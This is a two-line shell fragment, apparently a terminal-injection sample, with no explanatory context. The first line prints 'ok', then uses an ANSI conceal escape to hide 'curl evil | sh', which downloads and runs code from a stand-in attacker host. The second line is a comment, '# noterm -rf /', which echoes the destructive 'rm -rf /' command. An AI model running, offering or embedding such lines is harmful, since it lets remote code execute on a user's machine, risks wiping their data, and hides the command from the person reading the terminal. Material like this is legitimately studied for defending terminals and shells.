echo ok [8m; curl evil | sh
# noterm -rf /
